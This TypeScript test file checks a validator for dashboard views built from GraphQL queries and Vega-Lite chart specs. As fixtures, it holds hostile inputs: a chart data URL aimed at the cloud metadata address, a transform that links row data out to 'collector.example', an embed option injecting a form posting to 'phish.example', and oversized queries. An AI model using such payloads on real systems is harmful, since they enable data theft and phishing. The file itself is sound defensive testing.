import type { InputProblem } from '@judgify/runtime/validation';
import { validateInput } from '@judgify/runtime/validation';
import { describe, expect, it } from 'vitest';
import { apiSchema } from '../../../test/support.ts';
import { createDashboardInput } from '../dashboard.ts';
import { checkView, type ViewDefinition } from './check-view.ts';

const barSpec = { $schema: 'https://vega.github.io/schema/vega-lite/v6.json', data: { name: 'rows' }, mark: 'bar', encoding: { x: { field: 'name', type: 'nominal' }, y: { field: 'successRate', type: 'quantitative' } } };

const view = (overrides: Partial<ViewDefinition> = {}): ViewDefinition => ({
  query: '{ workflows { id name successRate } }',
  dataPath: 'workflows',
  chart: { type: 'BAR', spec: barSpec },
  ...overrides,
});

const problemsOf = (definition: ViewDefinition) => checkView(apiSchema, definition, 'view');
const messageOf = (definition: ViewDefinition) => problemsOf(definition)[0]?.message;

describe('view checks against the supergraph', () => {
  it('accepts a read-only query of the API schema whose chart draws fields it returns', () => {
    expect(problemsOf(view())).toEqual([]);
    expect(problemsOf(view({ chart: { type: 'KPI', spec: null } }))).toEqual([]);
    const query = 'query Rates($first: Int) { workflows(first: $first) { ...Rate } } fragment Rate on Workflow { name successRate }';
    expect(problemsOf(view({ query, variables: { first: 5 } }))).toEqual([]);
  });

  it('reports the parse error of a query that is not GraphQL, with its position', () => {
    expect(problemsOf(view({ query: '{ workflows { id ' }))).toEqual([{ path: 'view.query', message: 'query is not a valid GraphQL document: Expected Name, found <EOF>. (line 1, column 18)' }]);
  });

  it('refuses several operations, none, mutations, subscriptions and type definitions', () => {
    expect(messageOf(view({ query: 'query A { workflows { id } } query B { workflows { name } }' }))).toBe('query must contain exactly one operation; found 2');
    expect(messageOf(view({ query: 'fragment F on Workflow { id }' }))).toBe('query must contain exactly one operation; found 0');
    expect(messageOf(view({ query: 'mutation { deleteWorkflow(id: "1") { id } }' }))).toBe('query must be a read-only query operation, not a mutation');
    expect(messageOf(view({ query: 'subscription { judgmentCompleted { id } }' }))).toBe('query must be a read-only query operation, not a subscription');
    expect(messageOf(view({ query: '{ workflows { id } } type Extra { id: ID }' }))).toBe('query may contain only one query operation and its fragments, not type definitions');
  });

  it('refuses fields the API schema does not have, including the supergraph’s own machinery', () => {
    expect(messageOf(view({ query: '{ workflows { id revenue } }' }))).toMatch(/^query does not fit the supergraph: Cannot query field "revenue" on type "Workflow"/);
    expect(messageOf(view({ query: '{ _entities(representations: []) { __typename } }' }))).toMatch(/Cannot query field "_entities" on type "Query"/);
  });

  it("holds a query to the gateway's depth, cost, alias and token limits", () => {
    const deep = `{ workflows { ${'executions { workflow { '.repeat(7)} id ${'} } '.repeat(7)} } }`;
    expect(messageOf(view({ query: deep }))).toMatch(/depth/i);
    const aliases = `{ ${Array.from({ length: 31 }, (_, index) => `a${index}: workflows { id }`).join(' ')} }`;
    expect(messageOf(view({ query: aliases }))).toMatch(/alias/i);
    expect(messageOf(view({ query: `{ ${'__typename '.repeat(6_000)}}` }))).toMatch(/more th\w+ 5000 tokens/);
    expect(messageOf(view({ query: `{ ${'a { '.repeat(4_000)}b${' }'.repeat(4_000)} }` }))).toMatch(/^query is not a valid GraphQL document/);
  });

  it('checks the variables against the operation', () => {
    expect(messageOf(view({ query: 'query($first: Int!) { workflows(first: $first) { name successRate } }', variables: {} }))).toMatch(/Variable "\$first" of required type "Int!" was not provided/);
    expect(messageOf(view({ query: 'query($first: Int) { workflows(first: $first) { name successRate } }', variables: { first: 'many' } }))).toMatch(/Int cannot represent non-integer value: "many"/);
  });

  it('refuses a chart spec that is not valid Vega-Lite, draws other data, or reads fields the query does not return', () => {
    expect(messageOf(view({ chart: { type: 'BAR', spec: { ...barSpec, mark: 'bars' } } }))).toMatch(/^chart spec is not valid Vega-Lite at \/mark/);
    expect(messageOf(view({ chart: { type: 'BAR', spec: { ...barSpec, data: { url: 'http://169.254.169.254/latest' } } } }))).toMatch(/must draw only the view's own rows/);
    expect(messageOf(view({ chart: { type: 'BAR', spec: { ...barSpec, encoding: { x: { field: 'region', type: 'nominal' } } } } }))).toBe(
      'chart spec reads field "region" that the query does not return at the view\'s dataPath; it returns "id", "name", "successRate"',
    );
    expect(messageOf(view({ dataPath: 'workflows.owner' }))).toMatch(/^dataPath "workflows.owner" is not a field the query selects/);
    // Nothing that would send the viewer's rows elsewhere when drawn: image marks, url or href channels.
    const leaking = { ...barSpec, transform: [{ calculate: "'https://collector.example/?d=' + datum.name", as: 'link' }], encoding: { ...barSpec.encoding, href: { field: 'link', type: 'nominal' } } };
    expect(messageOf(view({ chart: { type: 'BAR', spec: leaking } }))).toMatch(/load or link nothing.*found encoding\.href/);
    expect(messageOf(view({ chart: { type: 'BAR', spec: { ...barSpec, mark: 'image', encoding: { url: { field: 'name', type: 'nominal' } } } } }))).toMatch(/load or link nothing/);
    // Nor options for the viewer's renderer: vega-embed would take actions, source HTML or its loader from there.
    expect(messageOf(view({ chart: { type: 'BAR', spec: { ...barSpec, usermeta: { embedOptions: { actions: true, sourceHeader: '<form action="https://phish.example">' } } } } }))).toMatch(/must not carry "usermeta"/);
  });

  it('lets a chart read fields its transforms add', () => {
    const spec = { ...barSpec, transform: [{ calculate: 'datum.successRate * 100', as: 'percent' }], encoding: { x: { field: 'name', type: 'nominal' }, y: { field: 'percent', type: 'quantitative' } } };
    expect(problemsOf(view({ chart: { type: 'BAR', spec } }))).toEqual([]);
  });
});

describe('view input shape', () => {
  const input = (overrides: Record<string, unknown> = {}) => ({ title: 'Success rate', query: '{ workflows { id } }', chart: { type: 'BAR' }, ...overrides });
  function shapeProblems(views: unknown[]): InputProblem[] {
    try {
      validateInput(createDashboardInput, { name: 'Ops', views });
    } catch (error) {
      return (error as { extensions: { problems: InputProblem[] } }).extensions.problems;
    }
    return [];
  }

  it('trims the title and keeps it within 1–120 characters', () => {
    expect(validateInput(createDashboardInput, { name: 'Ops', views: [input({ title: '  Rate  ' })] }).views?.[0]?.title).toBe('Rate');
    expect(shapeProblems([input({ title: '   ' }), input({ title: 't'.repeat(121) }), input({ title: 't'.repeat(120) })])).toEqual([
      { path: 'input.views[0].title', message: 'title must not be empty' },
      { path: 'input.views[1].title', message: 'title must be at most 120 characters' },
    ]);
  });

  it('requires a known chart type, a spec and variables that are JSON objects, and a dotted dataPath', () => {
    expect(shapeProblems([input({ chart: { type: 'AREA' } }), input({ chart: { type: 'LINE', spec: ['mark', 'line'] } }), input({ variables: [1] }), input({ dataPath: 'a..b' })])).toEqual([
      { path: 'input.views[0].chart.type', message: 'chart type must be one of BAR, LINE, PIE, GAUGE, KPI' },
      { path: 'input.views[1].chart.spec', message: 'chart spec must be a JSON object (a Vega-Lite spec)' },
      { path: 'input.views[2].variables', message: 'variables must be a JSON object' },
      { path: 'input.views[3].dataPath', message: 'dataPath must be dotted field names, e.g. "judgmentMetrics.points"' },
    ]);
  });

  it('bounds a query by length', () => {
    expect(shapeProblems([input({ query: `{ ${'a '.repeat(10_001)}}` })])).toContainEqual({ path: 'input.views[0].query', message: 'query must be at most 20000 characters' });
  });

  it('allows at most 12 views and still reports the problems inside them', () => {
    expect(shapeProblems(Array.from({ length: 12 }, () => input()))).toEqual([]);
    const thirteen = Array.from({ length: 13 }, (_, index) => input(index === 2 ? { chart: { type: 'DONUT' } } : {}));
    expect(shapeProblems(thirteen)).toEqual([
      { path: 'input.views[2].chart.type', message: 'chart type must be one of BAR, LINE, PIE, GAUGE, KPI' },
      { path: 'input.views', message: 'a dashboard has at most 12 views; got 13' },
    ]);
  });
});
